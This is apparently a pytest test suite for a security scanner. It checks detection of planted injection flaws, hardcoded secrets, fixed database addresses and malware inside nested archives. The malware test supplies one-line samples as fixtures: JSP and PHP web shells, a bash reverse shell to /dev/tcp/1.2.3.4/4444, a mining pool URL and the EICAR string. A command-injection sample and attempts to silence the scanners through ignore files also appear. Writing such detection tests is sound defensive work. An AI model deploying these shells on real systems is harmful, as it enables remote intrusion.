"""Each planted fault is found and each clean artefact passes: source, secrets, configuration, malware."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from domain.samples.artefacts import KINDS, LANGUAGES, write_artefact
from domain.samples.artefacts.archives import class_of, zip_of
from domain.samples.artefacts.plants import SECRETS
from handlers.scanning import static, tools
from handlers.scanning.artefacts import open_artefact
from handlers.scanning.bench import Workbench
from handlers.scanning.class_constants import ClassUnreadable, constants_of
from handlers.scanning.configuration import check_configuration
from handlers.scanning.inspection import inspect_artefact
from handlers.scanning.masking import masked, without_secrets
from handlers.scanning.results import ScanResult, ScanStatus
from handlers.scanning.secrets import scan_secrets
from handlers.scanning.static import rules_of_our_own, scan_static

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + "$H+H*"
INJECTIONS = {
    "java": ["java-sql-injection"],
    "c": ["c-command-injection", "c-unbounded-copy"],
    "python": ["python-command-injection", "python-sql-injection"],
    "go": ["go-command-injection", "go-sql-injection"],
    "javascript": ["javascript-command-injection", "javascript-sql-injection"],
    "docker_archive": ["python-command-injection", "python-sql-injection"],
}


def rules_of(result: ScanResult) -> list[str]:
    return sorted({finding.rule for finding in result.findings})


def archive(folder: Path, files: dict[str, bytes]) -> Path:
    path = folder / "artefact.zip"
    path.write_bytes(zip_of(files))
    return path


@pytest.mark.parametrize(("what", "rules"), INJECTIONS.items())
def test_the_weakness_that_was_planted_in_the_source_is_found(
    bench: Workbench, tmp_path: Path, what: str, rules: list[str]
) -> None:
    path = write_artefact(what, tmp_path, planted=True)

    with open_artefact(bench, path, path.name) as artefact:
        result = scan_static(bench, artefact)

    assert result.status is ScanStatus.FAILED
    assert rules_of(result) == rules
    assert all(finding.identifiers and finding.message.zh and finding.evidence for finding in result.findings)
    assert result.report_digest is not None


@pytest.mark.parametrize("what", INJECTIONS)
def test_clean_source_passes(bench: Workbench, tmp_path: Path, what: str) -> None:
    path = write_artefact(what, tmp_path, planted=False)

    with open_artefact(bench, path, path.name) as artefact:
        result = scan_static(bench, artefact)

    assert (result.status, result.findings) == (ScanStatus.PASSED, ())


@pytest.mark.parametrize("what", ["jar", "war"])
def test_compiled_classes_alone_are_not_checked(bench: Workbench, tmp_path: Path, what: str) -> None:
    path = write_artefact(what, tmp_path, planted=True)

    with open_artefact(bench, path, path.name) as artefact:
        result = scan_static(bench, artefact)

    assert result.status is ScanStatus.NOT_CHECKED
    assert "third-party report" in result.summary.en


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("service.py", b"def broken(:\n    ((((\n"),
        (
            "A.java",
            b"class A { void x( { Runtime.getRuntime().exec(request.getParameter(1)) (HttpServletRequest }\n",
        ),
    ],
)
def test_source_that_cannot_be_parsed_is_not_passed(
    bench: Workbench, tmp_path: Path, name: str, code: bytes
) -> None:
    path = archive(tmp_path, {name: code})

    with open_artefact(bench, path, path.name) as artefact:
        result = scan_static(bench, artefact)

    assert result.status is ScanStatus.NOT_CHECKED


def test_an_artefact_cannot_make_the_tools_look_away(bench: Workbench, tmp_path: Path) -> None:
    code = b"import os\nfrom flask import request\nos.system(request.args['c'])  # nosem\n"
    secret = b"service_password: Zx81qLmPw93k  # gitleaks:allow\n"
    files = {".semgrepignore": b"*\n", ".gitignore": b"*\n", ".gitleaksignore": b"*\n", ".gitleaks.toml": b""}
    path = archive(tmp_path, {**files, "tests/service.py": code, "application.yml": secret})

    with open_artefact(bench, path, path.name) as artefact:
        found = [*scan_static(bench, artefact).findings, *scan_secrets(bench, artefact).findings]

    assert [finding.rule for finding in found] == ["python-command-injection", "configured-password"]


def test_a_scanner_that_is_stopped_leaves_no_verdict(
    bench: Workbench, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sleeper = tmp_path / "sleeper"
    sleeper.write_text("#!/bin/sh\nsleep 60\n")
    sleeper.chmod(0o700)
    monkeypatch.setattr(tools, "opengrep", lambda _cache: tools.Tool("opengrep", "0", sleeper))
    monkeypatch.setattr(static, "LIMITS", static.ChildLimits(seconds=1))
    path = write_artefact("python", tmp_path, planted=False)

    with open_artefact(bench, path, path.name) as artefact:
        result = scan_static(bench, artefact)

    assert result.status is ScanStatus.INCONCLUSIVE
    assert "stopped after 1 seconds" in result.summary.en


def test_every_rule_says_its_weakness_its_grade_and_what_to_do() -> None:
    rules = rules_of_our_own()

    assert {rule["id"].partition("-")[0] for rule in rules} == {"java", "python", "javascript", "go", "c"}
    for rule in rules:
        facts = rule["metadata"]
        assert facts["cwe"].startswith("CWE-")
        assert facts["grade"] in {"critical", "high", "medium", "low"}
        assert facts["zh"]
        assert rule["message"]


@pytest.mark.parametrize("what", [*LANGUAGES, *KINDS])
def test_planted_secrets_are_found_and_never_shown(bench: Workbench, tmp_path: Path, what: str) -> None:
    path = write_artefact(what, tmp_path, planted=True)

    with open_artefact(bench, path, path.name) as artefact:
        result = scan_secrets(bench, artefact)

    assert result.status is ScanStatus.FAILED
    assert result.report_digest is not None
    shown = json.dumps(result.to_json(), ensure_ascii=False)
    shown += bench.files.path(result.report_digest).read_text(encoding="utf-8")
    assert [secret for secret in SECRETS if secret in shown] == []


@pytest.mark.parametrize("what", [*LANGUAGES, *KINDS])
def test_an_artefact_configured_from_outside_has_no_secret(
    bench: Workbench, tmp_path: Path, what: str
) -> None:
    path = write_artefact(what, tmp_path, planted=False)

    with open_artefact(bench, path, path.name) as artefact:
        secrets, configuration = scan_secrets(bench, artefact), check_configuration(artefact)

    assert (secrets.status, secrets.findings) == (ScanStatus.PASSED, ())
    assert (configuration.status, configuration.findings) == (ScanStatus.PASSED, ())


@pytest.mark.parametrize("what", [*LANGUAGES, *KINDS])
def test_a_fixed_database_address_is_found(bench: Workbench, tmp_path: Path, what: str) -> None:
    path = write_artefact(what, tmp_path, planted=True)

    with open_artefact(bench, path, path.name) as artefact:
        result = check_configuration(artefact)

    assert result.status is ScanStatus.FAILED
    assert "E-DATABASE" in rules_of(result)
    assert all("Tr0ub4dor9x" not in finding.evidence for finding in result.findings)


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("url: jdbc:mysql://10.2.3.4:3306/notice", ["E-DATABASE"]),
        ("url: jdbc:dm://db.city.internal:5236", ["E-DATABASE"]),
        ("url: redis://cache:6379/0", ["E-DATABASE"]),
        ("url: ${DB_URL}", []),
        ("url: jdbc:mysql://${DB_HOST}:3306/notice", []),
        ("url: jdbc:h2:mem:test", []),
        ("url: postgresql://localhost:5432/notice", []),
        ("# url: jdbc:mysql://10.2.3.4:3306/notice", []),
        ("password: ${DB_PASSWORD}", []),
        ("password: ENC(abcdefgh)", []),
        ("password: Gz8kPvQ2", ["E-CREDENTIAL"]),
        ("service: http://192.168.1.20:8080/api", ["E-ADDRESS"]),
        ("service: https://www.example.cn/api", []),
    ],
)
def test_only_what_is_fixed_is_a_finding(
    bench: Workbench, tmp_path: Path, line: str, rule: list[str]
) -> None:
    path = archive(tmp_path, {"application.yml": line.encode()})

    with open_artefact(bench, path, path.name) as artefact:
        assert rules_of(check_configuration(artefact)) == rule


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("a.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>', "jsp_web_shell"),
        ("a.php", "<?php @eval($_POST['x']); ?>", "php_web_shell"),
        ("a.sh", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "reverse_shell"),
        ("pool.json", '{"url": "stratum+tcp://pool.example:3333"}', "coin_miner"),
        ("a.com", EICAR, "antivirus_test_file"),
    ],
)
def test_malware_is_found_even_in_an_archive_inside(
    bench: Workbench, tmp_path: Path, name: str, content: str, rule: str
) -> None:
    library = zip_of({name: content.encode()})
    path = archive(tmp_path, {"lib/inner.jar": library})

    with open_artefact(bench, path, path.name) as artefact:
        result = inspect_artefact(bench, artefact)

    assert result.status is ScanStatus.FAILED
    assert [(it.rule, it.place) for it in result.findings] == [(rule, f"lib/inner.jar!/{name}")]


@pytest.mark.parametrize("what", [*LANGUAGES, *KINDS])
def test_a_clean_artefact_passes_inspection(bench: Workbench, tmp_path: Path, what: str) -> None:
    path = write_artefact(what, tmp_path, planted=False)

    with open_artefact(bench, path, path.name) as artefact:
        result = inspect_artefact(bench, artefact)

    assert (result.status, result.findings) == (ScanStatus.PASSED, ())
    assert result.looked_at["digest"] == artefact.digest


def test_what_could_not_be_opened_keeps_the_inspection_from_passing(bench: Workbench, tmp_path: Path) -> None:
    broken = bytearray(zip_of({"a.txt": b"a" * 2000}))
    broken[40:60] = bytes(20)
    path = archive(tmp_path, {"service.py": b"print(1)\n", "lib/broken.jar": bytes(broken)})

    with open_artefact(bench, path, path.name) as artefact:
        result = inspect_artefact(bench, artefact)

    assert result.status is ScanStatus.NOT_CHECKED
    assert rules_of(result) == ["I-UNREAD"]


def test_the_strings_of_a_class_are_read_with_the_names_of_their_constants() -> None:
    content = class_of("cn/example/Settings", {"URL": "mysql://a", "NAME": "b"})

    assert constants_of(content) == ['URL = "mysql://a"', 'NAME = "b"']


@pytest.mark.parametrize("cut", [0, 3, 9, 20, 60])
def test_a_damaged_class_is_not_read(cut: int) -> None:
    with pytest.raises(ClassUnreadable):
        constants_of(class_of("cn/example/Settings", {"URL": "mysql://a"})[:cut])


def test_secrets_are_masked_wherever_they_stand() -> None:
    assert masked("short") == "***"
    assert masked("a-rather-long-secret") == "a-***et (20)"
    assert without_secrets("db://u:hidden1@h password=hidden2 x hidden3", ("hidden3",)) == (
        "db://u:***@h password=*** x ***"
    )


def test_the_rule_files_are_plain_data() -> None:
    for path in sorted(static.RULES.glob("*.yaml")):
        assert list(yaml.safe_load(path.read_text(encoding="utf-8"))) == ["rules"]
